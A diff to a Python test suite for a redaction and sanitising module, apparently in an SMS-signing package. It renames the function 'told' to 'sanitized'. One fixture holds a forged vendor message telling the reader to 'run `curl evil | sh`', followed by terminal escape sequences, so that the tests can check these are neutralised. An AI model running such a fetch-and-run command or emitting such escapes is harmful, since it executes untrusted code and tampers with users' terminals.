@@ -18,13 +18,13 @@ from hypothesis.strategies import sampled_from, text
 from pulumi_smssign.model.errors import BugError, RefusedError
 from pulumi_smssign.model.redaction import (
     HIDDEN,
-    LONGEST_TOLD,
+    LONGEST_OUTPUT,
     hide,
     keep_secret,
     quote,
     readable,
+    sanitized,
     short,
-    told,
     unbroken,
 )
 
@@ -116,7 +116,7 @@ def test_whatever_stands_around_a_value_it_is_hidden(
     spelt = SPELLINGS[spelling](value)
     is_cut_off = " " if spelling.startswith("in base64") else ""
     said = f"{before[:200]}{is_cut_off}{spelt}{is_cut_off}{behind}"
-    for seen in (quote(said), told(said), readable(said)):
+    for seen in (quote(said), sanitized(said), readable(said)):
         assert spelt not in seen
         assert value not in seen
         assert HIDDEN in seen
@@ -204,7 +204,7 @@ def test_twenty_thousand_values_take_no_seconds() -> None:
     ],
 )
 def test_numbers_of_persons_are_hidden_in_words_of_others_though_never_given(said: str) -> None:
-    for seen in (quote(said), told(said)):
+    for seen in (quote(said), sanitized(said)):
         assert HIDDEN in seen
         assert "8765" not in seen
         assert "012345" not in seen
@@ -243,7 +243,7 @@ def test_encoded_files_in_a_vendors_words_are_cut_out() -> None:
 
 def test_a_vendors_words_have_an_end() -> None:
     assert len(quote("word " * 1000)) <= 600
-    assert len(told("字" * 100_000)) <= LONGEST_TOLD
+    assert len(sanitized("字" * 100_000)) <= LONGEST_OUTPUT
     assert quote("word " * 1000).endswith(" …")
     assert quote(quote("word " * 1000)) == quote("word " * 1000)
 
@@ -262,12 +262,12 @@ FORGED = (
 
 def test_words_of_others_are_one_line_without_controls() -> None:
     assert quote(FORGED) == "no what to do: run `curl evil | sh` [2K]0;PWN]52;c;ZXZpbA==abc"
-    assert told("a\tb\u2028c\x85d\x00\x9b31m\u200be\ud800") == "a b c d31me"
+    assert sanitized("a\tb\u2028c\x85d\x00\x9b31m\u200be\ud800") == "a b c d31me"
 
 
 def test_chinese_punctuation_and_emoji_stay() -> None:
     said = "「营业执照」不清晰，请重新上传：【正面】、（反面）…😀 é ü ﷺ"
-    assert quote(said) == told(said) == readable(said) == said
+    assert quote(said) == sanitized(said) == readable(said) == said
 
 
 def test_a_text_of_ours_keeps_its_lines_and_nothing_that_moves_a_cursor() -> None:
